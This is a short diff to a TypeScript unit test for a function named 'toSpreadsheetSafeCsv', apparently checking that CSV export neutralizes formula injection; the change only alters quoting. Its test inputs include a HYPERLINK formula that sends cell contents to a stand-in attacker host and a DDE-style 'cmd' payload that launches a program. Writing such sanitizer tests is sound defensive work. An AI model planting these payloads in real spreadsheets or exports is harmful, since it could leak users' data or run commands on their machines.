@@ -6,8 +6,8 @@ const cellOf = (csv: string) => Papa.parse<string[]>(csv).data[1]?.[0];
 
 describe("toSpreadsheetSafeCsv", () => {
   it.each([
-    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
-    "=HYPERLINK(\"https://evil.example\")\nx",
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    '=HYPERLINK("https://evil.example")\nx',
     "+1+cmd|' /C calc'!A0\r\nmore",
     "-2+3\nsecond line",
     "@SUM(A1)\n",
